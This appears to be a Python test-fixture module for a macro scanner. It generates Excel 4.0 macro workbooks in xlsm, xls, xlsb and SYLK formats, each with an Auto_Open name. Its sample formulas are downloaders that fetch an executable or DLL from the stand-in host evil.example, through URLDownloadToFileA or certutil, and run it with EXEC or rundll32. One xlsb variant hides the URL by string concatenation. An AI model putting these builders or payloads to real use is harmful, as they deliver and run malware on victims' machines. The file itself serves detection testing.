"""Excel 4.0 macro workbooks written here (no binaries in the tree): xlsm from XML parts, a
BIFF8 .xls with a macro sheet through the CFB writer of tests/unit/scan/vbafiles.py, an xlsb
(BIFF12 records in a zip, [MS-XLSB]), SYLK as text."""

from __future__ import annotations

import io
import struct
import zipfile
from xml.sax.saxutils import escape

from tests.unit.scan.vbafiles import _biff, write_cfb

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

DOWNLOADER = ['CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://"&"evil.example/p.exe",'
              '"c:\\users\\public\\p.exe",0,0)', 'EXEC("c:\\users\\public\\p.exe")', "HALT()"]
HARMLESS = ["SUM(1,2)", "HALT()"]


def xlsm(formulas: list[str], *, auto_open: bool = True, macro_sheet: bool = True) -> bytes:
    kind = "xlMacrosheet" if macro_sheet else "worksheet"
    ctype = "ms-excel.macrosheet+xml" if macro_sheet else \
        "openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    folder = "macrosheets" if macro_sheet else "worksheets"
    rel_base = "http://schemas.microsoft.com/office/2006/relationships" if macro_sheet \
        else OFFICE_RELS
    names = ('<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
             '</definedNames>') if auto_open else ""
    cells = "".join(f'<row r="{i}"><c r="A{i}"><f>{escape(f)}</f><v>0</v></c></row>'
                    for i, f in enumerate(formulas, 1))
    root = "xm:macrosheet" if macro_sheet else "worksheet"
    parts = {
        "[Content_Types].xml":
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org'
            '/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
            'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
            '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.ms-excel.sheet.macroEnabled.main+xml"/><Override PartName="/xl/' + folder +
            '/sheet1.xml" ContentType="application/vnd.' + ctype + '"/></Types>',
        "_rels/.rels":
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship '
            f'Id="rId1" Type="{OFFICE_RELS}/officeDocument" Target="xl/workbook.xml"/>'
            '</Relationships>',
        "xl/workbook.xml":
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="'
            f'{OFFICE_RELS}"><sheets><sheet name="Macro1" sheetId="1" r:id="rId1"/></sheets>'
            f'{names}</workbook>',
        "xl/_rels/workbook.xml.rels":
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship '
            f'Id="rId1" Type="{rel_base}/{kind}" Target="{folder}/sheet1.xml"/></Relationships>',
        f"xl/{folder}/sheet1.xml":
            f'<?xml version="1.0" encoding="UTF-8"?><{root} xmlns="{MAIN}" xmlns:xm="http://'
            f'schemas.microsoft.com/office/excel/2006/main"><sheetData>{cells}</sheetData>'
            f'</{root}>',
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in parts.items():
            zf.writestr(name, text)
    return buf.getvalue()


# BIFF8 formula tokens ([MS-XLS] 2.5.198): a string literal, and a fixed-argument function call
# by its Ftab index (EXEC 110, HALT 54).
def ptg_str(text: str) -> bytes:
    return b"\x17" + struct.pack("<BB", len(text), 0) + text.encode("latin-1")


def ptg_func(index: int) -> bytes:
    return b"\x41" + struct.pack("<H", index)


EXEC, HALT = 110, 54
XLS_DOWNLOADER = [ptg_str("cmd /c certutil -urlcache -f http://evil.example/x.exe x.exe")
                  + ptg_func(EXEC), ptg_func(HALT)]


def xls(formulas: list[bytes], *, auto_open: bool = True) -> bytes:
    """A Workbook stream: globals (BOF, a macro-sheet BOUNDSHEET8, SUPBOOK/EXTERNSHEET and the
    built-in Auto_Open NAME at Macro1!$A$1), then the macro sheet's FORMULA records."""
    name = b"Macro1"
    eof = _biff(0x000A, b"")
    bof_globals = _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x1F35, 0x07CD, 0, 0x0106))

    def boundsheet(position: int) -> bytes:
        return _biff(0x0085, struct.pack("<IBB", position, 0, 0x01)
                     + struct.pack("<BB", len(name), 0) + name)

    links = b""
    if auto_open:
        ref = b"\x3a" + struct.pack("<HHH", 0, 0, 0)  # ptgRef3d: sheet 0, $A$1
        links = (_biff(0x01AE, struct.pack("<HH", 1, 0x0401))
                 + _biff(0x0017, struct.pack("<HHHH", 1, 0, 0, 0))
                 + _biff(0x0018, struct.pack("<HBBHHHBBBB", 0x0020, 0, 1, len(ref), 0, 1, 0, 0,
                                             0, 0) + b"\x00\x01" + ref))
    size = len(bof_globals) + len(boundsheet(0)) + len(links) + len(eof)
    stream = bof_globals + boundsheet(size) + links + eof
    stream += _biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0040, 0x1F35, 0x07CD, 0, 0x0106))
    for row, rgce in enumerate(formulas):
        stream += _biff(0x0006, struct.pack("<HHH", row, 0, 0) + b"\x00" * 8
                        + struct.pack("<HIH", 0, 0, len(rgce)) + rgce)
    stream += eof
    cfb = bytearray(write_cfb({"Workbook": stream}))
    root = cfb.find("Root Entry".encode("utf-16-le"))
    cfb[root + 0x50:root + 0x60] = bytes.fromhex("2008020000000000c000000000000046")  # Excel
    return bytes(cfb)


SYLK = (b'ID;PWXL;N;E\r\nO;E\r\nNN;NAuto_open;ER1C1\r\n'
        b'C;X1;Y1;K0;ECALL("urlmon","URLDownloadToFileA","JJCCJJ",0,'
        b'"https://evil.example/s.dll","c:\\users\\public\\s.dll",0,0)\r\n'
        b'C;X1;Y2;K0;EEXEC("rundll32 c:\\users\\public\\s.dll,Start")\r\nC;X1;Y3;K0;EHALT()\r\nE\r\n')


# --- xlsb: BIFF12 records ([MS-XLSB] 2.1.4 Record: a 1-2 byte type and a 1-4 byte size, 7 bits
# a byte, high bit = more), written for the few records pyxlsb2 and XLMMacroDeobfuscator read.

def _varint(value: int, limit: int) -> bytes:
    out = bytearray()
    while True:
        out.append((value & 0x7F) | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            break
    assert len(out) <= limit
    return bytes(out)


def _brt(rectype: int, data: bytes = b"") -> bytes:
    return _varint(rectype, 2) + _varint(len(data), 4) + data


def _wide(text: str) -> bytes:
    """XLWideString (2.5.169): a 4-byte character count, then UTF-16LE."""
    return struct.pack("<I", len(text)) + text.encode("utf-16-le")


# Record types (2.3.2): the workbook part's and the sheet part's.
BRT_ROW_HDR, BRT_FMLA_NUM, BRT_NAME = 0, 9, 39
BRT_BEGIN_SHEET, BRT_END_SHEET, BRT_BEGIN_BOOK, BRT_END_BOOK = 129, 130, 131, 132
BRT_BEGIN_BUNDLE_SHS, BRT_END_BUNDLE_SHS, BRT_BEGIN_SHEET_DATA, BRT_END_SHEET_DATA = 143, 144, 145, 146
BRT_WB_PROP, BRT_BUNDLE_SH = 153, 156
BRT_BEGIN_EXTERNALS, BRT_END_EXTERNALS, BRT_SUP_SELF, BRT_EXTERN_SHEET = 353, 354, 357, 362


# Formula tokens (2.5.98 Ptg), BIFF12 forms: PtgStr's count is 2 bytes of UTF-16 characters,
# PtgInt 2 bytes, PtgFuncVar (value class 0x42) an argument count and a 2-byte Ftab index,
# PtgRef3d an XTI index, a 4-byte row and a 2-byte column (relative bits 14/15 clear: $A$1).
def ptgx_str(text: str) -> bytes:
    return b"\x17" + struct.pack("<H", len(text)) + text.encode("utf-16-le")


def ptgx_int(value: int) -> bytes:
    return b"\x1e" + struct.pack("<H", value)


PTGX_CONCAT = b"\x08"


def ptgx_funcvar(index: int, argc: int) -> bytes:
    return b"\x42" + struct.pack("<BH", argc, index)


CALL, GET_DOCUMENT = 150, 188  # Ftab ([MS-XLSB] 2.5.98.10): EXEC 110, HALT 54 as for BIFF8
XLSB_DOWNLOADER = [
    # CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://"&"evil.example/b.exe",
    #      "c:\users\public\b.exe",0,0): the URL exists only once the concatenation is evaluated.
    ptgx_str("urlmon") + ptgx_str("URLDownloadToFileA") + ptgx_str("JJCCJJ") + ptgx_int(0)
    + ptgx_str("http://") + ptgx_str("evil.example/b.exe") + PTGX_CONCAT
    + ptgx_str("c:\\users\\public\\b.exe") + ptgx_int(0) + ptgx_int(0) + ptgx_funcvar(CALL, 8),
    ptgx_str("c:\\users\\public\\b.exe") + ptgx_funcvar(EXEC, 1),  # EXEC("c:\...\b.exe")
    ptgx_funcvar(HALT, 0),
]
XLSB_HARMLESS = [ptgx_int(1) + ptgx_int(2) + ptgx_funcvar(4, 2), ptgx_funcvar(HALT, 0)]  # SUM


def xlsb(formulas: list[bytes], *, auto_open: bool = True, macro_sheet: bool = True,
         name: str = "Auto_Open") -> bytes:
    """An xlsb package: one sheet (a macro sheet, or a worksheet) named Macro1 whose column A
    holds `formulas` (CellParsedFormula rgce bytes), and, with auto_open, the defined name
    `name` (Auto_Open; Excel writes _xlnm.Auto_Open) at Macro1!$A$1. [Content_Types].xml names the main part through a Default for
    "bin", as Excel writes it, not an Override."""
    book = _brt(BRT_BEGIN_BOOK)
    # BrtWbProp (2.4.820): flags, dwThemeVersion, strName (the code name).
    book += _brt(BRT_WB_PROP, struct.pack("<II", 0, 0) + _wide(""))
    # BrtBundleSh (2.4.304): hsState (visible), iTabID, strRelID, strName.
    book += (_brt(BRT_BEGIN_BUNDLE_SHS) + _brt(BRT_BUNDLE_SH, struct.pack("<II", 0, 1)
             + _wide("rId1") + _wide("Macro1")) + _brt(BRT_END_BUNDLE_SHS))
    # ExternalReferences (2.1.7.26): this workbook (BrtSupSelf) and one XTI for sheet 0, which
    # PtgRef3d in the name's formula indexes (BrtExternSheet 2.4.658).
    book += (_brt(BRT_BEGIN_EXTERNALS) + _brt(BRT_SUP_SELF)
             + _brt(BRT_EXTERN_SHEET, struct.pack("<Iiii", 1, 0, 0, 0)) + _brt(BRT_END_EXTERNALS))
    if auto_open:
        # BrtName (2.4.647): flags (fFunc|fProc: an XLM macro), chKey, itab (workbook scope),
        # name, then NameParsedFormula: cce, rgce (PtgRef3d to Macro1!$A$1), cb (no extra).
        ref = b"\x3a" + struct.pack("<HIH", 0, 0, 0)
        book += _brt(BRT_NAME, struct.pack("<IBI", 0x000A, 0, 0xFFFFFFFF) + _wide(name)
                     + struct.pack("<I", len(ref)) + ref + struct.pack("<I", 0))
    book += _brt(BRT_END_BOOK)

    sheet = _brt(BRT_BEGIN_SHEET) + _brt(BRT_BEGIN_SHEET_DATA)
    for row, rgce in enumerate(formulas):
        # BrtRowHdr (2.4.726): rw, ixfe, miyRw, flag bytes, ccolspan 0.
        sheet += _brt(BRT_ROW_HDR, struct.pack("<IIHBBBI", row, 0, 300, 0, 0, 0, 0))
        # BrtFmlaNum (2.4.681): Cell (column, iStyleRef), the cached value, grbitFlags, then
        # CellParsedFormula (2.5.97.2): cce, rgce, cb.
        sheet += _brt(BRT_FMLA_NUM, struct.pack("<IId", 0, 0, 0.0) + struct.pack("<HI", 0, len(rgce))
                      + rgce + struct.pack("<I", 0))
    sheet += _brt(BRT_END_SHEET_DATA) + _brt(BRT_END_SHEET)

    folder = "macrosheets" if macro_sheet else "worksheets"
    rel = ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" if macro_sheet
           else f"{OFFICE_RELS}/worksheet")
    ctype = "application/vnd.ms-excel." + ("macrosheet" if macro_sheet else "worksheet")
    parts = {
        "[Content_Types].xml":
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org'
            '/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.'
            'ms-excel.sheet.binary.macroEnabled.main"/><Default Extension="rels" ContentType='
            '"application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml"'
            f' ContentType="application/xml"/><Override PartName="/xl/{folder}/sheet1.bin" '
            f'ContentType="{ctype}"/></Types>',
        "_rels/.rels":
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship '
            f'Id="rId1" Type="{OFFICE_RELS}/officeDocument" Target="xl/workbook.bin"/>'
            '</Relationships>',
        "xl/_rels/workbook.bin.rels":
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}"><Relationship '
            f'Id="rId1" Type="{rel}" Target="{folder}/sheet1.bin"/></Relationships>',
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in parts.items():
            zf.writestr(name, text)
        zf.writestr("xl/workbook.bin", book)
        zf.writestr(f"xl/{folder}/sheet1.bin", sheet)
    return buf.getvalue()
